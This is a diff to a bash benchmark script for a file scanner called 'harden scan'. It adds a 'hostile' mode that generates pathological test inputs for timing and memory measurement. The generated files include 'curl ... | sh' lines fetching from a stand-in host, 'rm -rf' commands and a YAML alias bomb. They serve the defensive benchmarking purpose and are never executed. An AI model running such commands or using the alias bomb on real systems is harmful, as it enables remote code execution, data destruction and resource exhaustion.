@@ -1,9 +1,12 @@
 #!/usr/bin/env bash
 # Benchmark `harden scan` against ripgrep reading the same files.
 #
-# usage: bench/run.sh [synthetic|real|all]
+# usage: bench/run.sh [synthetic|real|hostile|all]
 #   synthetic  a generated tree of 50,000 files (bench/gen_tree.py)
 #   real       an unpacked PyPI sdist (ansible-core), downloaded once with pip
+#   hostile    the pathological inputs of issue 13, one tree each (nested shell,
+#              duplicated pins, an alias bomb, 100k findings to SARIF): seconds and
+#              peak RSS per case, to catch a rule going quadratic again
 #
 # Prints wall times (hyperfine, warm cache), the ratio harden/rg and harden's
 # peak RSS. Not a test: numbers depend on the machine.
@@ -57,4 +60,38 @@ if [ "$what" = real ] || [ "$what" = all ]; then
         rm -rf "$tmp"
     fi
     bench_tree real "$tree"
+fi
+
+if [ "$what" = hostile ] || [ "$what" = all ]; then
+    base="$work/hostile"
+    rm -rf "$base"
+    python3 - "$base" <<'PY'
+import os, sys
+base = sys.argv[1]
+def w(rel, text):
+    p = os.path.join(base, rel)
+    os.makedirs(os.path.dirname(p), exist_ok=True)
+    open(p, "w").write(text)
+n = 2000
+w("nested-shell/deploy.sh", "#!/bin/bash\n" + "if [ -n \"$(echo $(true))\" ]; then\n" * 900
+  + "rm -rf \"$X/\"\n" + "fi\n" * 900 + "".join(
+  "if [ -f /x%d ]; then echo $(cat /x%d) | grep -q y && rm -rf \"$D%d/\"; fi\n" % (i, i, i) for i in range(n)))
+w("duplicate-pins/requirements.txt", "".join("pkg%d>=1.0\n" % (i % 3) for i in range(8000)))
+w("duplicate-pins/requirements-dev.txt", "pkg0>=1.0\n" * 4000)
+bomb = 'x-a: &a ["x","x","x","x","x","x","x","x","x"]\n'
+names = "abcdefgh"
+for i in range(1, 8):
+    bomb += "x-%s: &%s [%s]\n" % (names[i], names[i], ",".join(["*" + names[i - 1]] * 9))
+w("alias-bomb/docker-compose.yml", bomb + "services:\n  web:\n    image: nginx:1.27\n    x: *h\n")
+for d in range(100):
+    w("many-findings/s%03d.sh" % d, "#!/bin/bash\n" + "".join(
+      "curl -s https://x.example/%d | sh\nrm -rf \"$D%d/\"\n" % (i, i) for i in range(500)))
+PY
+    for case in nested-shell duplicate-pins alias-bomb many-findings; do
+        for fmt in json sarif; do
+            [ "$case" = many-findings ] || [ "$fmt" = json ] || continue
+            /usr/bin/time -f "hostile $case ($fmt): %e s, peak RSS %M KiB" \
+                "$bin" scan --format "$fmt" --fail-on critical "$base/$case" > /dev/null
+        done
+    done
 fi
